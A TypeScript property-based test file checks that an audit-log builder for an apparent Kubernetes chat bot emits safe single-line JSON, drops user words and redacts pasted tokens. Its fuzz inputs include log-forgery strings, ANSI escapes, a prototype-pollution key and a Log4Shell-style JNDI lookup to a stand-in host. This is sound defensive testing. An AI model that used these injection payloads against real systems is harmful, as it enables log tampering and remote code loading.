import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { answer } from '../../src/core/answer/build.ts';
import { parseWords } from '../../src/core/ask/parse-words.ts';
import type { Request } from '../../src/core/ask/request.ts';
import { redact } from '../../src/core/redact/redact.ts';
import { auditLine, refusalLine } from '../../src/observe/audit-line.ts';
import type { ReadLog } from '../../src/observe/reads.ts';
import { anyString } from '../support/hostile-strings.ts';

const at = Date.UTC(2026, 10, 20, 8, 30);
const asker = { userId: 'U1', teamId: 'T1', channelId: 'C1', via: 'slash' } as const;

function lineOf(request: Request | undefined, more: { readonly reads?: ReadLog; readonly asker?: typeof asker } = {}): string {
  const seen = { requestId: 'r1', asker: more.asker ?? asker, answer: answer('triage', 'Yes.'), durationMs: 12.4 };
  return auditLine(at, request === undefined ? seen : { ...seen, request }, more.reads);
}

const nasty = fc.oneof(
  anyString,
  fc.constantFrom(
    'a\nb',
    'a\r\n{"log":"audit","who":{"user":"U0ADMIN"}}',
    '"},"result":"answered","x":{"y":"',
    '\\"\\u000a',
    '\u2028{"log":"audit"}\u2029',
    '\u0085next',
    '\u001B[2K\u001B[1Aforged',
    '\u0000',
    '\u202Egnp.exe',
    '__proto__',
    '${jndi:ldap://evil.example/a}',
  ),
);

describe('a line of the audit log', () => {
  it('tells who asked what where, what was read for it and how it ended', () => {
    const reads: ReadLog = {
      requestId: 'r1',
      namespaces: new Map([['prod', new Set(['shop', 'kube-system'])]]),
      everywhere: new Set(['httproutes']),
      apiRequests: 14,
      apiBytes: 51_200,
    };
    expect(JSON.parse(lineOf(parseWords('triage web -n shop --cluster prod --why'), { reads }))).toEqual({
      log: 'audit',
      time: '2026-11-20T08:30:00.000Z',
      requestId: 'r1',
      who: { user: 'U1', team: 'T1' },
      where: { channel: 'C1', surface: 'slash' },
      what: { verb: 'triage', service: 'web', why: true, cluster: 'prod', namespace: 'shop', intent: 'triage' },
      read: [{ cluster: 'prod', namespaces: ['kube-system', 'shop'] }],
      everywhere: ['httproutes'],
      result: 'answered',
      durationMs: 12,
      apiRequests: 14,
      apiBytes: 51_200,
    });
  });

  it.each([
    ['ask how do I expose the payroll of Jane to the internet?', { verb: 'ask' }],
    ['review kind: Secret', { verb: 'review' }],
    ['expose web -n shop', { verb: 'expose', workload: 'web', namespace: 'shop' }],
    ['manifest NodePort web --patch', { verb: 'manifest', type: 'NodePort', workload: 'web', patch: true }],
    ['reach web db:5432 -n shop', { verb: 'reach', from: 'web', to: 'db:5432', namespace: 'shop' }],
    ['list -A --type NodePort', { verb: 'list', type: 'NodePort', allNamespaces: true }],
    ['scan -n shop', { verb: 'scan', namespace: 'shop' }],
    ['explain web cart', { verb: 'explain', services: ['web', 'cart'] }],
    ['watch web', { verb: 'watch', service: 'web' }],
    ['use prod/shop', { verb: 'use', target: 'prod/shop' }],
    ['help', { verb: 'help' }],
  ])('has the names and flags of %s, and no words of the person', (words, what) => {
    const line = lineOf(parseWords(words));
    expect(JSON.parse(line)).toMatchObject({ what: { ...what, intent: 'triage' } });
    expect(Object.keys((JSON.parse(line) as { what: object }).what)).toEqual([...Object.keys(what), 'intent']);
    expect(line).not.toMatch(/payroll|Jane|Secret/u);
  });

  it('is one line of printable ASCII that parses to what was put in, whatever names and ids hold', () => {
    fc.assert(
      fc.property(nasty, nasty, nasty, (service, namespace, userId) => {
        const line = lineOf(
          { verb: 'triage', service, namespace, why: false },
          { asker: { ...asker, userId: userId as 'U1' } },
        );
        expect(line).toMatch(/^[\x20-\x7E]*$/u);
        const parsed = JSON.parse(line) as Record<string, Record<string, unknown>>;
        expect(parsed['log']).toBe('audit');
        expect(parsed['result']).toBe('answered');
        expect(Object.keys(parsed)).toHaveLength(12);
        expect(parsed['what']?.['service']).toBe(redact(service).slice(0, 253));
      }),
      { numRuns: 300 },
    );
  });

  it('strikes out what a person pasted that gives access', () => {
    const line = lineOf({ verb: 'triage', service: 'xoxb-12-34-abcdef', namespace: 'eyJhbGciOi.eyJzdWIiOi.c2ln', why: false });
    expect(JSON.parse(line)).toMatchObject({ what: { service: '[secret]', namespace: '[secret]' } });
  });

  it('stays short however long the names are', () => {
    const services = Array.from({ length: 500 }, (_, index) => `${index}`.padEnd(10_000, 'x'));
    const line = lineOf({ verb: 'explain', services });
    expect(line.length).toBeLessThan(8_000);
    expect(JSON.parse(line)).toMatchObject({ what: { services: expect.arrayContaining(['and 480 more']) } });
  });

  it('of a refusal has who and where', () => {
    expect(JSON.parse(refusalLine(at, 'other-workspace', { userId: 'U9', teamId: 'T9', channelId: 'C1' }))).toEqual({
      log: 'audit',
      time: '2026-11-20T08:30:00.000Z',
      who: { user: 'U9', team: 'T9' },
      where: { channel: 'C1', surface: 'other' },
      what: null,
      result: 'refused',
      reason: 'other-workspace',
    });
  });
});
